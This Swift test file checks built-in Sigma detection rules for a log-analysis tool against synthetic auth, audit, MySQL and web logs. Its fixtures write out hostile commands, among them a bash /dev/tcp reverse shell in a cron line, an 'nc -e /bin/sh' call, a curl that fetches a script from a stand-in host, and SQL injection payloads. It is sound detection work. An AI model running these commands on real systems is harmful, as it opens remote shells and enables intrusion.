import DSToolKit
import XCTest
@testable import DSToolTrace

/// Every built-in Sigma rule with a matching and a non-matching log.
final class BuiltinRuleTests: XCTestCase {
    func testAllBuiltinRulesLoadAndTheEmbeddedCopyIsCurrent() throws {
        let e = SigmaEngine.load(builtin: true, dirs: [])
        XCTAssertEqual(e.loadErrors.map(\.description), [])
        XCTAssertEqual(e.rules.count + e.correlations.count, BuiltinRules.names.count)
        XCTAssertEqual(e.activeRuleCount, e.rules.count)
        // The embedded texts are the files in Plugins/Trace/Rules (run Plugins/Trace/Scripts/embed-rules after editing).
        let dir = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
            .appendingPathComponent("Rules")
        let files = try FileManager.default.contentsOfDirectory(atPath: dir.path).filter { $0.hasSuffix(".yml") }.sorted()
        XCTAssertEqual(files, BuiltinRules.names)
        for (name, text) in BuiltinRules.files {
            let disk = try String(contentsOf: dir.appendingPathComponent(name), encoding: .utf8)
            XCTAssertEqual(disk.trimmingCharacters(in: .newlines), text, name)
        }
    }

    func syslog(_ sec: Int, _ prog: String, _ msg: String) -> String {
        String(format: "Jan 15 10:%02d:%02d web1 %@: %@", sec / 60, sec % 60, prog, msg)
    }

    func rules(_ name: String, _ text: String) throws -> [String] { try runEngine([(name, text)]).rules() }

    func testSSHBruteForce() throws {
        let ten = (0..<10).map { syslog($0 * 20, "sshd[7]", "Failed password for root from 203.0.113.2 port \(4000 + $0) ssh2") }
        XCTAssertTrue(try rules("auth.log", ten.joined(separator: "\n")).contains("trace.sigma.ssh_brute_force"))
        let nine = ten.prefix(9)
        XCTAssertFalse(try rules("auth.log", nine.joined(separator: "\n")).contains("trace.sigma.ssh_brute_force"))
        // The base rule feeds the correlation only.
        XCTAssertFalse(try rules("auth.log", ten.joined(separator: "\n")).contains("trace.sigma.ssh_auth_failure"))
    }

    func testSSHPasswordSpraying() throws {
        let users = ["root", "admin", "test", "oracle", "ubuntu"]
        let spray = users.enumerated().map { syslog($0.offset * 30, "sshd[7]", "Failed password for invalid user \($0.element) from 203.0.113.3 port 4000 ssh2") }
        XCTAssertTrue(try rules("auth.log", spray.joined(separator: "\n")).contains("trace.sigma.ssh_password_spraying"))
        let same = (0..<5).map { syslog($0 * 30, "sshd[7]", "Failed password for root from 203.0.113.3 port 4000 ssh2") }
        XCTAssertFalse(try rules("auth.log", same.joined(separator: "\n")).contains("trace.sigma.ssh_password_spraying"))
    }

    func testWebContentDiscovery() throws {
        let probes = (0..<25).map { accessLine("203.0.113.4", request: "GET /dir\($0)/ HTTP/1.1", time: "15/Jan/2024:10:00:\(String(format: "%02d", $0)) +0000", status: 404) }
        XCTAssertTrue(try rules("access.log", probes.joined(separator: "\n")).contains("trace.sigma.web_content_discovery"))
        let same = (0..<25).map { _ in accessLine("203.0.113.4", request: "GET /missing HTTP/1.1", status: 404) }
        XCTAssertFalse(try rules("access.log", same.joined(separator: "\n")).contains("trace.sigma.web_content_discovery"))
    }

    func testWebLoginBruteForce() throws {
        let posts = (0..<20).map { accessLine("203.0.113.5", request: "POST /wp-login.php HTTP/1.1", time: "15/Jan/2024:10:0\($0 / 10):\(String(format: "%02d", $0 % 10 * 5)) +0000") }
        XCTAssertTrue(try rules("access.log", posts.joined(separator: "\n")).contains("trace.sigma.web_login_brute_force"))
        let gets = (0..<20).map { _ in accessLine("203.0.113.5", request: "GET /wp-login.php HTTP/1.1") }
        XCTAssertFalse(try rules("access.log", gets.joined(separator: "\n")).contains("trace.sigma.web_login_brute_force"))
    }

    func testSudoRootShellAndSuspiciousCommand() throws {
        let shell = syslog(0, "sudo", "    bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash")
        XCTAssertTrue(try rules("auth.log", shell).contains("trace.sigma.sudo_root_shell"))
        let su = syslog(0, "sudo", "    bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/su - root")
        XCTAssertTrue(try rules("auth.log", su).contains("trace.sigma.sudo_root_shell"))
        let apt = syslog(0, "sudo", "    bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/apt upgrade")
        XCTAssertFalse(try rules("auth.log", apt).contains("trace.sigma.sudo_root_shell"))
        XCTAssertFalse(try rules("auth.log", apt).contains("trace.sigma.sudo_suspicious_command"))
        let curl = syslog(0, "sudo", "    bob : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/curl http://x.example/a.sh -o /tmp/a.sh")
        XCTAssertTrue(try rules("auth.log", curl).contains("trace.sigma.sudo_suspicious_command"))
        let tmp = syslog(0, "sudo", "    bob : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/tmp/.x/run")
        XCTAssertTrue(try rules("auth.log", tmp).contains("trace.sigma.sudo_suspicious_command"))
    }

    func testCronSuspiciousCommand() throws {
        XCTAssertTrue(try rules("syslog", syslog(0, "CRON[88]", "(root) CMD (bash -i >& /dev/tcp/203.0.113.6/4444 0>&1)")).contains("trace.sigma.cron_suspicious_command"))
        XCTAssertFalse(try rules("syslog", syslog(0, "CRON[88]", "(root) CMD (run-parts /etc/cron.hourly)")).contains("trace.sigma.cron_suspicious_command"))
    }

    func testAuditdReverseShell() throws {
        let nc = #"type=EXECVE msg=audit(1705312800.000:20): argc=4 a0="nc" a1="-e" a2="/bin/sh" a3="203.0.113.7""#
        XCTAssertTrue(try rules("audit.log", nc).contains("trace.sigma.auditd_reverse_shell"))
        let bash = #"type=EXECVE msg=audit(1705312800.000:21): argc=2 a0="/bin/bash" a1="-i""#
        XCTAssertTrue(try rules("audit.log", bash).contains("trace.sigma.auditd_reverse_shell"))
        let ls = #"type=EXECVE msg=audit(1705312800.000:22): argc=2 a0="ls" a1="-la""#
        XCTAssertFalse(try rules("audit.log", ls).contains("trace.sigma.auditd_reverse_shell"))
    }

    func testNewUserUID0() throws {
        XCTAssertTrue(try rules("auth.log", syslog(0, "useradd[9]", "new user: name=sysadm, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0")).contains("trace.sigma.new_user_uid0"))
        XCTAssertFalse(try rules("auth.log", syslog(0, "useradd[9]", "new user: name=alice, UID=1001, GID=1001, home=/home/alice, shell=/bin/bash, from=/dev/pts/0")).contains("trace.sigma.new_user_uid0"))
    }

    func mysql(_ rows: [(String, String)]) -> String {
        "Time                 Id Command    Argument\n" + rows.enumerated().map { i, r in
            String(format: "2024-01-15T10:00:%02d.000000Z\t   12 %@\t%@", i, r.0, r.1)
        }.joined(separator: "\n") + "\n"
    }

    func testMySQLRules() throws {
        XCTAssertTrue(try rules("mysql.log", mysql([("Query", "SELECT * FROM users INTO OUTFILE '/var/www/html/u.txt'")])).contains("trace.sigma.mysql_file_access"))
        XCTAssertFalse(try rules("mysql.log", mysql([("Query", "SELECT * FROM users WHERE id = 3")])).contains("trace.sigma.mysql_file_access"))
        XCTAssertTrue(try rules("mysql.log", mysql([("Query", "SELECT id FROM p WHERE id=1 UNION SELECT table_name FROM information_schema.tables")])).contains("trace.sigma.mysql_injection_payload"))
        XCTAssertTrue(try rules("mysql.log", mysql([("Query", "SELECT * FROM p WHERE id=1 AND SLEEP(5)")])).contains("trace.sigma.mysql_injection_payload"))
        XCTAssertFalse(try rules("mysql.log", mysql([("Query", "SELECT sleep_hours FROM health")])).contains("trace.sigma.mysql_injection_payload"))
        XCTAssertTrue(try rules("mysql.log", mysql([("Query", "GRANT ALL PRIVILEGES ON *.* TO 'x'@'%'")])).contains("trace.sigma.mysql_grant_all"))
        XCTAssertFalse(try rules("mysql.log", mysql([("Query", "GRANT SELECT ON shop.* TO 'report'@'10.0.0.%'")])).contains("trace.sigma.mysql_grant_all"))
        let denied = (0..<10).map { _ in ("Connect", "Access denied for user 'root'@'203.0.113.8' (using password: YES)") }
        XCTAssertTrue(try rules("mysql.log", mysql(denied)).contains("trace.sigma.mysql_brute_force"))
        XCTAssertFalse(try rules("mysql.log", mysql(Array(denied.prefix(5)))).contains("trace.sigma.mysql_brute_force"))
    }

    func testWAFBlock() throws {
        let line = #"2024/01/15 10:00:00 [error] 11#11: *3 [client 203.0.113.9] ModSecurity: Access denied with code 403 (phase 2). Matched "Operator `Ge' with parameter `5'", client: 203.0.113.9, server: s, request: "GET /?q=1%27 HTTP/1.1", host: "h""#
        XCTAssertTrue(try rules("error.log", line).contains("trace.sigma.waf_block"))
        XCTAssertFalse(try rules("error.log", "2024/01/15 10:00:00 [error] 11#11: *3 upstream timed out, client: 203.0.113.9, server: s").contains("trace.sigma.waf_block"))
    }
}
